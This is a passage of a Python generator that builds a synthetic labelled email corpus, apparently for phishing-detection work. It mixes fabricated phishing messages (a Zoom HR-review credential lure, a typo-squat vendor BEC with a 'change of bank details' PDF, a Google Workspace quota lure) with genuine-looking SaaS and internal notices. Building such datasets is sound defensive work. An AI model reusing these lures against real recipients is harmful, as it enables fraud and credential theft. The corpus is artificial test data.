               dkim("sendgrid.info", "smtpapi", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to",
                    stem + "s", t),
               f"Received: from {hx(stem + 'rh', 12)} (unknown)\n\tby geopod-ismtpd-{num(stem + 'gp', 1, 40)} (SG) with HTTP\n\t"
               f"id {b64url(stem + 'sgid', 22)}\n\t{rfc(t)} (UTC)",
               f"Date: {rfc(t)}", f"From: Zoom <no-reply@{dom}>", "Mime-Version: 1.0",
               f"Message-ID: <{b64url(stem + 'mid', 22)}@geopod-ismtpd-{num(stem + 'gp', 1, 40)}>",
               "Subject: Invitation: Annual Performance Review & Compensation Discussion",
               f"X-SG-EID: u001.{b64(stem + 'eid', 120)}", f"To: {rcpt}", bottom)
    emit(stem, "phishing", "Zoom 'HR is inviting you to your annual performance review' imitation sent through SendGrid from a "
         "look-alike zoom-meetings-invite.com domain, the button hidden behind SendGrid click tracking to a credential page.",
         message(hdr, alt(stem, plain, html, bnd=hx(stem + "sgb", 64))))


@build
def phish_bank_details_typosquat_pdf():
    stem = "b46-phish-bank-details-typosquat"
    rcpt = f"sarah.whitfield@{UKHA}"
    t = T("2026-02-10 11:22:05")
    real, fake = "castlebrookbuild.co.uk", "castlebrookbuild.co"
    sender = f"accounts@{fake}"
    o = m365_out("Joanne Pike", sender, f"Sarah Whitfield <{rcpt}>",
                 "RE: Invoice CB-2291 - Planned works Block C", t, stem, "uk", has_attach=True, lang="en-GB",
                 in_reply_to=ref_id("ukha", stem), references=ref_id("ukha", stem),
                 arc_dmarc="none")
    auth = Auth("pass", sender, [("pass", fake, "selector1")], "none", fake)
    top, bottom = m365_in("ukha", stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth, ctry="GB")
    pdf = F.pdf(["Castlebrook Build Ltd", "Unit 12, Quedgeley Trading Estate, Gloucester GL2 4PA", "",
                 "10 February 2026", "", "To: Severn Vale Homes - Finance", "",
                 "RE: CHANGE OF BANK DETAILS", "",
                 "Please be advised that with immediate effect our company bank account has changed following",
                 "an internal audit. All outstanding and future payments should be made to the account below:", "",
                 "Bank: Monzo Business", "Account name: Castlebrook Build Ltd", "Sort code: 04-00-75",
                 f"Account number: {digits(stem + 'acc', 8)}", "",
                 "Payments to our previous account will be returned. Please update your records and confirm.", "",
                 "Joanne Pike, Accounts Manager"], title="Change of Bank Details")
    paras = ["Hi Sarah,", "",
             "Thanks for confirming CB-2291 is approved. Please note our bank details have changed, see attached letter "
             "on headed paper. Could you make sure this payment run goes to the new account and confirm once updated?", "",
             "Kind regards,"]
    sig = ["Joanne Pike", "Accounts Manager | Castlebrook Build Ltd", "01452 555 0182 | www.castlebrookbuild.co.uk"]
    quoted = ('<div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1">'
              '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">'
              f"<b>From:</b> Sarah Whitfield &lt;{rcpt}&gt;<br><b>Sent:</b> 09 February 2026 15:47<br><b>To:</b> Joanne Pike "
              f"&lt;accounts@{real}&gt;<br><b>Subject:</b> RE: Invoice CB-2291 - Planned works Block C</font><div>&nbsp;</div>"
              "</div><div><p>Hi Joanne,<br>CB-2291 has been approved and will go in Thursday's payment run.<br>Sarah</p></div>")
    body = Multi("mixed", o["mixbnd"], [
        Multi("alternative", o["bnd"], [
            tleaf(plain_from(paras, sig) + f"\n________________________________\nFrom: Sarah Whitfield <{rcpt}>\nSent: 09 "
                  "February 2026 15:47\nSubject: RE: Invoice CB-2291 - Planned works Block C\n\nHi Joanne,\nCB-2291 has been "
                  "approved and will go in Thursday's payment run.\nSarah\n", "plain", "quoted-printable", "utf-8", "us-ascii"),
            tleaf(outlook_html(paras, sig, quoted), "html", "quoted-printable", "utf-8", "us-ascii")]),
        attachment("application/pdf", "Castlebrook_Change_of_Bank_Details.pdf", pdf),
    ])
    emit(stem, "phishing", "Vendor-impersonation BEC: a reply into a genuine invoice thread from the typo-squat "
         "castlebrookbuild.co (real supplier is .co.uk) on its own Microsoft 365 tenant, with a PDF 'change of bank "
         "details' letter redirecting the payment run.", message(join(top, o["pre"], o["hdrs"], bottom), body))


@build
def phish_mailbox_quota_sendgrid():
    stem = "b46-phish-mailbox-quota-sendgrid"
    rcpt = f"lwong@{CA}"
    t = T("2024-12-18 15:40:22")
    dom = "fieldtrackapp.io"
    ip = f"149.72.{num(stem + 'a', 100, 250)}.{num(stem + 'b', 1, 250)}"
    rdns = f"o{num(stem + 'o', 1, 9)}.ptr{num(stem + 'p', 1000, 9999)}.{dom}"
    mailfrom = f"bounces+{digits(stem + 'bn', 8)}-{hx(stem + 'bn2', 4)}-{rcpt.replace('@', '=')}@em{digits(stem + 'em', 4)}.{dom}"
    auth = Auth("pass", mailfrom, [("pass", dom, "s1"), ("pass", "sendgrid.info", "smtpapi")], "pass", dom, "none")
    top = gmail_in(rcpt, stem, t, ip, rdns, rdns, auth)
    click = f"https://u{digits(stem + 'sg', 8)}.ct.sendgrid.net/ls/click?upn=u001.{b64url(stem + 'upn', 170)}"
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:'Google Sans',Roboto,Arial,sans-serif;background:#fff;">
<table width="520" align="center" style="border:1px solid #dadce0;border-radius:8px;" cellpadding="0" cellspacing="0">
<tr><td style="padding:24px;font-size:22px;color:#202124;">Your mailbox is almost full</td></tr>
<tr><td style="padding:0 24px;"><table width="100%" style="background:#e8eaed;border-radius:4px;"><tr><td style="background:#d93025;width:98%;height:8px;border-radius:4px;"></td><td></td></tr></table>
<p style="font-size:13px;color:#5f6368;">14.71 GB of 15 GB used</p></td></tr>
<tr><td style="padding:8px 24px;font-size:14px;color:#3c4043;line-height:21px;">{rcpt} has used 98% of its storage. Once full you
won't be able to send or receive email and incoming messages from members will be returned to sender.<br><br>
Free up space or claim an additional 10 GB of storage at no cost to your organization.</td></tr>
<tr><td style="padding:20px 24px 28px 24px;"><a href="{click}" style="background:#1a73e8;color:#fff;padding:10px 22px;border-radius:4px;text-decoration:none;font-size:14px;">Get more storage</a></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#70757a;border-top:1px solid #dadce0;">Google Workspace &middot; aspenprairiecu.ca administrator</td></tr>
</table>
<img src="https://u{digits(stem + 'sg', 8)}.ct.sendgrid.net/wf/open?upn=u001.{b64url(stem + 'op', 110)}" width="1" height="1" alt="">
</body></html>
"""
    plain = (f"Your mailbox is almost full\n\n14.71 GB of 15 GB used\n\n{rcpt} has used 98% of its storage.\n\n"
             f"Get more storage: {click}\n")
    hdr = join(top, dkim(dom, "s1", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to", stem + "d", t),
               dkim("sendgrid.info", "smtpapi", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to",
                    stem + "s", t),
               f"Received: from {hx(stem + 'rh', 12)} (unknown)\n\tby geopod-ismtpd-{num(stem + 'gp', 1, 40)} (SG) with HTTP\n\t"
               f"id {b64url(stem + 'sgid', 22)}\n\t{rfc(t)} (UTC)",
               f"Date: {rfc(t)}", f'From: "Google Workspace Storage" <notifications@{dom}>', "Mime-Version: 1.0",
               f"Message-ID: <{b64url(stem + 'mid', 22)}@geopod-ismtpd-{num(stem + 'gp', 1, 40)}>",
               f"Subject: {rcpt}: storage 98% full - action needed",
               f"X-SG-EID: u001.{b64(stem + 'eid', 120)}", f"To: {rcpt}")
    emit(stem, "phishing", "Google Workspace 'mailbox almost full, claim 10 GB free' lure sent through a field-service SaaS "
         "company's compromised SendGrid account (aligned DKIM), with SendGrid click tracking hiding the credential kit.",
         message(hdr, alt(stem, plain, html, bnd=hx(stem + "sgb", 64))))


# ================================================================ LEGITIMATE

def outlook_internal(name: str, address: str, to: str, subject: str, t: datetime, seed: str, org: str,
                     cc: str = "", has_attach: bool = False, lang: str = "en-US", extra: list[str] | None = None) -> dict:
    snd = m365_names(org, seed + "snd")
    msgid = outlook_msgid(snd["mbx"], seed)
    local = msgid[1:].split("@")[0]
    top, bottom = m365_internal(org, seed, t)
    lines = [f"From: {addr(name, address)}", f"To: {to}"]
    if cc:
        lines.append(f"CC: {cc}")
    lines += [f"Subject: {subject}", f"Thread-Topic: {subject}", f"Thread-Index: {thread_index(seed)}",
              f"Date: {rfc(t)}", f"Message-ID:\n {msgid}", f"Accept-Language: {lang}", f"Content-Language: {lang}",
              f"X-MS-Has-Attach:{' yes' if has_attach else ''}", "X-MS-TNEF-Correlator:"]
    lines += extra or []
    lines.append("MIME-Version: 1.0")
    return dict(hdrs=join(top, "\n".join(lines), bottom), bnd=f"_000_{local}_", mixbnd=f"_004_{local}_", msgid=msgid)


@build
def legit_m365_quarantine_digest():
    stem = "b46-legit-m365-quarantine-digest"
    rcpt = f"gemma.price@{UKHA}"
    t = T("2025-11-12 06:00:03")
    ip = f"40.107.{num(stem + 'a', 20, 40)}.{num(stem + 'b', 10, 250)}"
    helo = rdns = f"EUR0{num(stem + 'e', 2, 5)}-DB5-obe.outbound.protection.outlook.com"
    auth = Auth("pass", "quarantine@messaging.microsoft.com", [("pass", "messaging.microsoft.com", "selector1")], "pass",
                "messaging.microsoft.com", "reject")
    top, bottom = m365_in("ukha", stem, later(t, 1), ip, helo, rdns, auth, ctry="IE", scl=-1)
    items = [("news@offers.screwfix-trade.co.uk", "Black Friday early access: up to 40% off power tools", "11/11/2025 14:02"),
             ("info@housing-summit-events.com", "Last chance: Social Housing Leaders Summit 2026 delegate rate", "11/11/2025 16:47"),
             ("hello@workwearexpress-deals.co.uk", "Your exclusive hi-vis bundle is waiting", "11/11/2025 21:15")]
    rows = ""
    for i, (s, subj, d) in enumerate(items):
        qid = uid(stem + str(i))
        base = "https://security.microsoft.com/quarantine"
        rows += (f'<tr><td style="padding:10px 8px;border-bottom:1px solid #e1dfdd;font-size:13px;"><b>Sender:</b> {s}<br>'
                 f"<b>Subject:</b> {esc(subj)}<br><b>Date:</b> {d}</td>"
                 f'<td style="padding:10px 8px;border-bottom:1px solid #e1dfdd;font-size:13px;white-space:nowrap;">'
                 f'<a href="{base}?viewid=Email&amp;id={qid}" style="color:#0078d4;">Review Message</a><br>'
                 f'<a href="https://security.microsoft.com/quarantine/release?id={qid}&amp;recipient={rcpt}" style="color:#0078d4;">Release</a><br>'
                 f'<a href="https://security.microsoft.com/quarantine/blocksender?id={qid}" style="color:#0078d4;">Block Sender</a></td></tr>\n')
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:'Segoe UI',Tahoma,sans-serif;color:#323130;">
<table width="640" cellpadding="0" cellspacing="0">
<tr><td style="font-size:24px;padding:10px 0;">Review These Messages</td></tr>
<tr><td style="font-size:14px;padding-bottom:12px;">3 messages are being held for you to review as of 11/12/2025 6:00:03 AM (UTC).<br><br>
Review them within 30 days of the received date by going to the Quarantine page in the Security Center.</td></tr>
<tr><td style="font-size:16px;font-weight:600;padding:8px 0;">Prevented spam messages</td></tr>
<tr><td><table width="100%" cellpadding="0" cellspacing="0">
{rows}</table></td></tr>
<tr><td style="font-size:12px;color:#605e5c;padding-top:18px;">&copy; 2025 Microsoft Corporation. All rights reserved.<br>
Privacy Statement: <a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#0078d4;">https://go.microsoft.com/fwlink/?LinkId=521839</a><br>
Microsoft Corporation, One Microsoft Way, Redmond, WA, USA 98052</td></tr>
</table></body></html>
"""
    hdr = join(top, dkim("messaging.microsoft.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version",
                         stem),
               "From: Microsoft 365 <quarantine@messaging.microsoft.com>",
               f"To: {rcpt}",
               "Subject: Microsoft 365 security: You have messages in quarantine",
               f"Date: {rfc(t)}",
               f"Message-ID: <{uid(stem + 'mid')}@{helo.split('.')[0].lower()}.eurprd0{num(stem + 'e', 2, 5)}.prod.outlook.com>",
               "X-MS-Exchange-Organization-QuarantineDigest: True",
               "MIME-Version: 1.0", bottom)
    emit(stem, "bulk", "Genuine Exchange Online Protection quarantine digest ('You have messages in quarantine') listing three "
         "held marketing emails with Review/Release links to security.microsoft.com.",
         message(hdr, tleaf(html, "html", "quoted-printable", "utf-8", "utf-8")))


@build
def legit_mfa_enrolment_announcement():
    stem = "b46-legit-mfa-enrolment-its"
    t = T("2025-01-27 15:00:12")
    o = outlook_internal("Lakemont ITS Communications", f"its-announce@{USU}", f"All Faculty and Staff <allstaff@{USU}>",
                         "Action needed by March 3: set up Microsoft Authenticator number matching", t, stem, "usu")
    paras = ["Dear colleagues,", "",
             "Beginning <b>Monday, March 3, 2025</b>, Lakemont will require Microsoft Authenticator with number matching for "
             "all faculty and staff accounts. Text-message and phone-call verification will no longer be accepted for "
             "sign-in to Outlook, Canvas, Workday and VPN.", "",
             "<b>What you need to do</b>", "",
             "1. On a computer, go to <a href=\"https://aka.ms/mysecurityinfo\">https://aka.ms/mysecurityinfo</a> and sign in "
             "with your NetID.<br>2. Choose <i>Add sign-in method</i> &gt; <i>Microsoft Authenticator</i> and follow the "
             "prompts.<br>3. Test the method and set it as your default.", "",
             "Step-by-step instructions with screenshots are in the ITS Knowledge Base: "
             "<a href=\"https://its.lakemont.edu/kb/mfa-authenticator\">its.lakemont.edu/kb/mfa-authenticator</a>. "
             "Walk-in help is available at the Library Tech Bar, Mon-Fri 9am-4pm.", "",
             "ITS will never email you a link that asks for your password. If you receive a message claiming to be from "
             "ITS that asks you to \"re-register\" through a link, please use the Report button in Outlook.", "",
             "Thank you,", "Information Technology Services"]
    sig = ["Lakemont University | Information Technology Services", "Service Desk: (555) 210-4357 | its.lakemont.edu"]
    body = Multi("alternative", o["bnd"], [tleaf(plain_from(paras, sig), "plain", "quoted-printable", "utf-8", "us-ascii"),
                                          tleaf(outlook_html(paras, sig), "html", "quoted-printable", "utf-8", "us-ascii")])
    emit(stem, "bulk", "Genuine internal ITS announcement to all staff requiring Microsoft Authenticator number matching by a "
         "deadline, linking to aka.ms/mysecurityinfo and the university knowledge base (sent inside the tenant).",
         message(o["hdrs"], body))


@build
def legit_sharepoint_share_partner():
    stem = "b46-legit-sharepoint-share"
    rcpt = f"rpatel@{AU}"
    t = T("2025-03-18 04:12:50")
    tenant = "lumenarchitects.com.au"
    o = m365_out("Megan Ross", "no-reply@sharepointonline.com", rcpt,
                 "Megan Ross shared the folder \"Westfield Rd - Structural Review\" with you", t, stem, "au")
    auth = Auth("pass", "no-reply@sharepointonline.com", [("pass", "sharepointonline.com", "selector1")], "pass",
                "sharepointonline.com", "reject")
    top = postfix_in(rcpt, stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth)
    link = (f"https://lumenarchitects.sharepoint.com/:f:/s/Projects/E{b64url(stem + 'sp', 20)}-{b64url(stem + 'sp2', 22)}"
            f"?email=rpatel%40hpeng.com.au&e={alnum(stem + 'e', 6)}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body>
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:#ffffff;"><tr><td align="center">
<table role="presentation" width="496" cellpadding="0" cellspacing="0" style="font-family:'Segoe UI',-apple-system,Roboto,Helvetica,Arial,sans-serif;">
<tr><td style="padding:32px 0 0 0;font-size:24px;font-weight:600;color:#242424;">Megan Ross shared a folder with you</td></tr>
<tr><td style="padding:16px 0;font-size:14px;color:#424242;">Ravi - drawings for the level 3 transfer slab are in here, including the revised
column set-out. Happy to jump on a call Thursday.</td></tr>
<tr><td style="padding:8px 0;"><table role="presentation" width="100%" style="border:1px solid #e0e0e0;border-radius:4px;"><tr>
<td style="padding:12px;font-size:14px;color:#242424;"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20250206.001/assets/item-types/48/folder.png" width="24" height="24" alt="" style="vertical-align:middle;">&nbsp;Westfield Rd - Structural Review</td></tr></table></td></tr>
<tr><td style="padding:20px 0;"><a href="{link}" style="background:#0f6cbd;color:#ffffff;padding:8px 20px;border-radius:4px;text-decoration:none;font-size:14px;font-weight:600;">Open</a></td></tr>
<tr><td style="padding:8px 0;font-size:12px;color:#616161;">This link only works for the direct recipients of this message.</td></tr>
<tr><td style="padding:24px 0;font-size:12px;color:#616161;border-top:1px solid #e0e0e0;">
<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20250206.001/assets/brand-icons/product/png/sharepoint_24x1.png" width="16" alt=""> SharePoint
&nbsp;&middot;&nbsp;<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161;">Privacy Statement</a><br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></td></tr></table></body></html>
"""
    plain = ("Megan Ross shared a folder with you\n\nRavi - drawings for the level 3 transfer slab are in here, including the "
             f"revised column set-out. Happy to jump on a call Thursday.\n\nWestfield Rd - Structural Review\n\nOpen <{link}>\n\n"
             "This link only works for the direct recipients of this message.\n\nPrivacy Statement <https://go.microsoft.com/"
             "fwlink/?LinkId=521839>\n")
    hdrs = o["hdrs"].replace("From: Megan Ross <no-reply@sharepointonline.com>",
                             "From: Megan Ross <no-reply@sharepointonline.com>\nReply-To: Megan Ross <megan.ross@" + tenant + ">")
    body = Multi("alternative", o["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "utf-8"),
                                          tleaf(html, "html", "quoted-printable", "utf-8", "utf-8")])
    emit(stem, "bulk", "Genuine SharePoint Online 'shared a folder with you' notification from an architecture practice's "
         "tenant (no-reply@sharepointonline.com, all aligned), linking to their own sharepoint.com site.",
         message(join(top, o["pre"], hdrs), body))


@build
def legit_docusign_lease_renewal():
    stem = "b46-legit-docusign-lease"
    rcpt = f"dfraser@{CA}"
    t = T("2025-10-02 17:45:30")
    ds = docusign_sent(t, stem, "NA4")
    auth = Auth("pass", ds["auth_mailfrom"], [("pass", "docusign.net", "s1")], "pass", "docusign.net", "reject")
    top = gmail_in(rcpt, stem, t, ds["ip"], ds["helo"], ds["rdns"], auth)
    link = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={uid(stem + 'a')}&etti=24&acct={uid(stem + 'acct')}"
            f"&er={uid(stem + 'er')}")
    who, mail = "Melissa Tran", "mtran@heritagecommercialrealty.ca"
    text_ = ("Hi Douglas,<br><br>As discussed, please find the lease renewal for the Moose Jaw branch premises "
             "(Unit 3, 410 Main St N) for the 2026-2031 term. Schedule B reflects the agreed base rent. Once you have "
             "signed it will route to our principal for countersignature.<br><br>Thanks,<br>Melissa")
    html = docusign_html(who, mail, text_, link)
    plain = docusign_plain(who, mail, text_, link)
    hdr = join(top, ds["dk"],
               f"X-DocuSign-Envelope-Id: {uid(stem + 'envid').upper()}",
               f'From: "{who} via Docusign" <{ds["auth_mailfrom"]}>',
               f'Reply-To: "{who}" <{mail}>',
               f"To: Douglas Fraser <{rcpt}>",
               "Subject: Please DocuSign: APCU Moose Jaw - Lease Renewal 2026-2031.pdf",
               f"Date: {rfc(t)}",
               f"Message-ID: <{hx(stem + 'mid', 32)}@docusign.net>",
               "MIME-Version: 1.0", "X-Auto-Response-Suppress: All")
    body = alt(stem, plain, html, bnd="----=_Part_" + digits(stem + "p", 8) + "_" + digits(stem + "p2", 9) + "." + str(unix(t)) + "456")
    emit(stem, "bulk", "Genuine Docusign envelope from the credit union's commercial landlord's property manager (company "
         "address, expected lease renewal for a branch) to the CEO.", message(hdr, body))


@build
def legit_workday_open_enrollment():
    stem = "b46-legit-workday-benefits"
    rcpt = f"kfoster@{USU}"
    t = T("2025-11-03 14:00:41")
    ip = f"199.102.{num(stem + 'a', 174, 175)}.{num(stem + 'b', 10, 250)}"
    helo = rdns = f"mail{num(stem + 'h', 10, 30)}.myworkday.com"
    auth = Auth("pass", f"bounce@myworkday.com", [("pass", "myworkday.com", "wd1")], "pass", "myworkday.com", "reject")
    top, bottom = m365_in("usu", stem, later(t, 2), ip, helo, rdns, auth, ctry="US", bcl=1)
    link = "https://wd5.myworkday.com/lakemont/d/task/2997$8254.htmld"
    inbox = "https://wd5.myworkday.com/lakemont/d/inst/15$" + digits(stem + "i", 6) + "/" + hx(stem + "wi", 32) + ".htmld"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>
<div style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333;">
<p>You have a new task in your Workday inbox.</p>
<p><b>Benefit Change: Open Enrollment 2026 - Kimberly Foster</b><br>Due: 11/21/2025</p>
<p>Open Enrollment for 2026 medical, dental, vision and FSA elections runs November 3 - November 21. If you do not
make changes, your current medical, dental and vision elections will carry over; FSA elections must be made each year.</p>
<p><a href="{inbox}">View in Workday</a></p>
<p>Questions? Visit the <a href="https://hr.lakemont.edu/benefits/open-enrollment">HR Benefits Open Enrollment page</a> or
contact benefits@lakemont.edu.</p>
<p style="font-size:11px;color:#777;">This is an automated notification from Workday. Please do not reply.</p>
</div></body></html>
"""
    plain = (f"You have a new task in your Workday inbox.\n\nBenefit Change: Open Enrollment 2026 - Kimberly Foster\nDue: "
             f"11/21/2025\n\nView in Workday: {inbox}\n\nQuestions? Visit https://hr.lakemont.edu/benefits/open-enrollment or "
             "contact benefits@lakemont.edu.\n")
    hdr = join(top, dkim("myworkday.com", "wd1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               f"Received: from wd5-prod-app{num(stem + 'app', 10, 99)} (localhost [127.0.0.1])\n\tby {helo} (Postfix) with ESMTP "
               f"id {alnum(stem + 'q', 10, 'ABCDEF0123456789')}\n\tfor <{rcpt}>; {rfc(t)}",
               f"Date: {rfc(t)}", "From: Lakemont University Workday <lakemont@myworkday.com>", f"To: {rcpt}",
               f"Message-ID: <{digits(stem + 'mid', 13)}.{digits(stem + 'mid2', 6)}.JavaMail.wdprod@wd5-prod-app"
               f"{num(stem + 'app', 10, 99)}>",
               "Subject: Inbox: Benefit Change - Open Enrollment 2026 (Due 11/21/2025)", "MIME-Version: 1.0",
               "X-Workday-Tenant: lakemont", bottom)
    emit(stem, "bulk", "Genuine Workday inbox notification (myworkday.com, aligned) about the 2026 benefits open-enrollment "
         "task, linking to the university's Workday tenant and HR site.", message(hdr, alt(stem, plain, html)))


@build
def legit_adp_pay_statement():
    stem = "b46-legit-adp-pay-statement"
    rcpt = f"tmclean@{CA}"
    t = T("2025-06-27 10:31:12")
    ip = f"170.146.{num(stem + 'a', 32, 47)}.{num(stem + 'b', 10, 250)}"
    helo = rdns = f"mta{num(stem + 'h', 1, 9)}.adp.com"
    auth = Auth("pass", "bounces@notifications.adp.com", [("pass", "adp.com", "adp2023")], "pass", "adp.com", "reject")
    top = gmail_in(rcpt, stem, t, ip, helo, rdns, auth)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f4f4f4;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,Helvetica,sans-serif;color:#333;">
<tr><td style="padding:20px 28px;border-bottom:3px solid #d0271d;font-size:22px;font-weight:bold;color:#d0271d;">ADP</td></tr>
<tr><td style="padding:24px 28px;font-size:15px;line-height:22px;">
<p>Hello Tanya,</p>
<p>Your pay statement for the pay date <b>June 27, 2025</b> from <b>Aspen Prairie Credit Union</b> is now available.</p>
<p>To view it, sign in to the ADP mobile app or visit <a href="https://my.adp.com/" style="color:#1e5a96;">my.adp.com</a>.</p>
<p>For your security, we do not include pay details in email.</p>
</td></tr>
<tr><td style="padding:16px 28px;font-size:11px;color:#777;background:#fafafa;">This email was sent to you because you are
enrolled in pay statement notifications. You can manage notification preferences in myADP. ADP Canada Co., 3250 Bloor
St. W., Toronto, ON M8X 2X9. ADP and the ADP logo are registered trademarks of ADP, Inc.</td></tr>
</table></td></tr></table></body></html>
"""
    plain = ("Hello Tanya,\n\nYour pay statement for the pay date June 27, 2025 from Aspen Prairie Credit Union is now "
             "available.\n\nTo view it, sign in to the ADP mobile app or visit https://my.adp.com/.\n\nFor your security, we do "
             "not include pay details in email.\n")
    hdr = join(top, dkim("adp.com", "adp2023", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               f"Date: {rfc(t, 'America/Toronto')}", "From: ADP <noreply@notifications.adp.com>", f"To: {rcpt}",
               f"Message-ID: <{uid(stem + 'mid')}@notifications.adp.com>",
               "Subject: Your pay statement is available", "MIME-Version: 1.0")
    emit(stem, "bulk", "Genuine ADP Canada 'your pay statement is available' notice telling the employee to sign in at "
         "my.adp.com or the app, with no pay details and no credential link.", message(hdr, alt(stem, plain, html)))


@build
def legit_bamboohr_handbook():
    stem = "b46-legit-bamboohr-handbook"
    rcpt = f"jnguyen@{AU}"
    t = T("2025-02-03 22:15:09")
    ip = f"209.235.{num(stem + 'a', 137, 138)}.{num(stem + 'b', 10, 250)}"
    helo = rdns = f"mailer{num(stem + 'h', 1, 9)}.bamboohr.com"
    auth = Auth("pass", "notifications@bamboohr.com", [("pass", "bamboohr.com", "bhr1")], "pass", "bamboohr.com", "reject")
    top = postfix_in(rcpt, stem, t, ip, helo, rdns, auth)
    link = f"https://hpeng.bamboohr.com/signatures/{digits(stem + 's', 5)}/sign?token={hx(stem + 't', 32)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f4f4f4;font-family:'Lato',Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:6px;">
<tr><td style="padding:24px 32px;font-size:18px;color:#222;font-weight:bold;">Hartwell Pryce Engineering</td></tr>
<tr><td style="padding:0 32px 16px 32px;font-size:15px;color:#444;line-height:22px;">Hi Jack,<br><br>
Natalie Brooks has requested your signature on <b>Employee Handbook 2025 - Acknowledgement</b>.<br><br>
<i>"Hi all - the updated handbook includes the new flexible work and site fatigue management policies. Please read
and sign by 14 February. Natalie"</i></td></tr>
<tr><td style="padding:8px 32px 28px 32px;"><a href="{link}" style="background:#73c41d;color:#fff;padding:11px 26px;border-radius:4px;text-decoration:none;font-weight:bold;">Review &amp; Sign</a></td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#888;border-top:1px solid #eee;">Powered by BambooHR &middot; 335 S 560 W, Lindon, UT 84042</td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"Hi Jack,\n\nNatalie Brooks has requested your signature on Employee Handbook 2025 - Acknowledgement.\n\n\"Hi all - "
             "the updated handbook includes the new flexible work and site fatigue management policies. Please read and sign "
             f"by 14 February. Natalie\"\n\nReview & Sign: {link}\n\nPowered by BambooHR\n")
    hdr = join(top, dkim("bamboohr.com", "bhr1", "From:Reply-To:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               f"Date: {rfc(t)}", "From: Hartwell Pryce Engineering <notifications@bamboohr.com>",
               f"Reply-To: Natalie Brooks <nbrooks@{AU}>", f"To: Jack Nguyen <{rcpt}>",
               f"Message-ID: <{hx(stem + 'mid', 32)}@bamboohr.com>",
               "Subject: Signature requested: Employee Handbook 2025 - Acknowledgement", "MIME-Version: 1.0")
    emit(stem, "bulk", "Genuine BambooHR signature request for the firm's 2025 employee-handbook acknowledgement (bamboohr.com, "
         "aligned; reply-to the firm's HR officer), linking to the company's bamboohr.com subdomain.",
         message(hdr, alt(stem, plain, html)))


@build
def legit_it_maintenance_ukha():
    stem = "b46-legit-it-maintenance"
    t = T("2025-06-11 12:30:44")
    o = outlook_internal("ICT Service Desk", f"ictservicedesk@{UKHA}", f"All Staff <allstaff@{UKHA}>",
                         "Planned maintenance: Housing management system unavailable Saturday 14 June", t, stem, "ukha",
                         lang="en-GB")
    paras = ["Dear colleagues,", "",
             "The housing management system (rents, repairs and tenancy records) and the tenant portal will be unavailable "
             "on <b>Saturday 14 June from 07:00 to 13:00</b> while our supplier applies the quarterly upgrade.", "",
             "During this window:", "",
             "&bull; Out-of-hours repairs calls will be logged on paper by the contact centre and entered afterwards<br>"
             "&bull; Tenants will not be able to view rent statements online<br>"
             "&bull; Email, Teams and SharePoint are not affected", "",
             "No action is needed from you. If anything looks wrong on Monday morning, please raise a ticket through the "
             "<a href=\"https://svhomes.sharepoint.com/sites/ICT/SitePages/Service-Desk.aspx\">ICT Service Desk page</a> or "
             "call ext. 4400.", "",
             "Thanks,", "ICT Service Desk"]
    body = Multi("alternative", o["bnd"], [tleaf(plain_from(paras), "plain", "quoted-printable", "utf-8", "us-ascii"),
                                          tleaf(outlook_html(paras), "html", "quoted-printable", "utf-8", "us-ascii")])
    emit(stem, "bulk", "Genuine internal ICT notice to all staff about a Saturday maintenance window for the housing "
         "management system, linking only to the association's own SharePoint.", message(o["hdrs"], body))


@build
def legit_xero_invoice():
    stem = "b46-legit-xero-invoice"
    rcpt = f"accounts@{AU}"
    t = T("2025-04-01 00:05:33")
    ip = f"52.{num(stem + 'a', 62, 65)}.{num(stem + 'b', 1, 250)}.{num(stem + 'c', 1, 250)}"
    helo = rdns = f"o{num(stem + 'o', 1, 9)}.post.xero.com"
    mailfrom = f"bounces+{digits(stem + 'b', 7)}-{hx(stem + 'b2', 4)}-accounts=hpeng.com.au@post.xero.com"
    auth = Auth("pass", mailfrom, [("pass", "post.xero.com", "s1")], "pass", "post.xero.com", "reject")
    top = postfix_in(rcpt, stem, t, ip, helo, rdns, auth)
    inv = "INV-" + digits(stem + "inv", 4)
    link = f"https://in.xero.com/{alnum(stem + 'x', 40)}"
    pdf = F.pdf(["Sydney Survey Instruments Pty Ltd", "ABN 41 612 338 910", "Unit 7, 22 Anzac St, Chullora NSW 2190", "",
                 "TAX INVOICE", f"Invoice Number: {inv}", "Invoice Date: 1 Apr 2025", "Due Date: 30 Apr 2025",
